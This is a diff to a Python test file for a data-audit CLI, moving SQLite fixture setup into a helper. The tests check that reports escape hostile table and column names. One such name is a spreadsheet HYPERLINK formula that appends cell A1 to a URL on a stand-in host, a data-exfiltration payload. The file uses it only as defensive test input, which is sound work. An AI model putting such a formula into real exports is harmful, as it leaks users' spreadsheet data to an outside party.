@@ -5,9 +5,9 @@ from __future__ import annotations
 import csv
 import io
 import json
-import sqlite3
 import xml.etree.ElementTree as ElementTree
 
+from helpers import add_sqlite_source
 from typer.testing import CliRunner
 
 from laci_audit.cli import app
@@ -22,13 +22,11 @@ FORMULA_NAME = '=HYPERLINK("http://x.test/?"&A1,"klik")&email'
 
 def _hostile_inventory(inventory):
     with open(inventory / "sources.yaml", "a", encoding="utf-8") as handle:
-        handle.write("  - {name: ekspor, kind: csv, path: data/ekspor.csv, owner: tim-data}\n"
-                     "  - {name: toko, kind: sqlite, path: data/toko.sqlite, owner: tim-data}\n")
+        handle.write("  - {name: ekspor, kind: csv, path: data/ekspor.csv, owner: tim-data}\n")
     (inventory / "data").mkdir()
     (inventory / "data" / "ekspor.csv").write_text(f'"{ESCAPE_HEADER}",{BIDI_NAME}\n1,2\n', encoding="utf-8")
-    with sqlite3.connect(inventory / "data" / "toko.sqlite") as connection:
-        connection.execute(f'CREATE TABLE "akun\x85x" ("{FORMULA_NAME.replace(chr(34), chr(34) * 2)}" TEXT, "[/bold]" TEXT)')
-    connection.close()
+    add_sqlite_source(inventory, "toko",
+                      f'CREATE TABLE "akun\x85x" ("{FORMULA_NAME.replace(chr(34), chr(34) * 2)}" TEXT, "[/bold]" TEXT)')
 
 
 def test_terminal_reports_escape_control_and_bidi_characters(inventory, tmp_path):
@@ -95,12 +93,7 @@ def _unescaped_pipes(line: str) -> int:
 def test_markdown_tables_keep_their_columns_whatever_the_names_hold(inventory, tmp_path):
     """A `|` or a newline in a table or column name stays inside its cell: every row of the audit's
     and the gate's Markdown tables has as many cells as the header."""
-    (inventory / "data").mkdir()
-    with sqlite3.connect(inventory / "data" / "pipa.sqlite") as connection:
-        connection.execute('CREATE TABLE "akun|pelanggan" ("no_hp|lama" TEXT, "email\nbaru" TEXT)')
-    connection.close()
-    with open(inventory / "sources.yaml", "a", encoding="utf-8") as handle:
-        handle.write("  - {name: pipa, kind: sqlite, path: data/pipa.sqlite, owner: tim-data}\n")
+    add_sqlite_source(inventory, "pipa", 'CREATE TABLE "akun|pelanggan" ("no_hp|lama" TEXT, "email\nbaru" TEXT)')
     runner = CliRunner()
     db = ["--db", str(tmp_path / "x.db"), "-i", str(inventory)]
     audit = runner.invoke(app, ["audit", "-f", "markdown", *db])
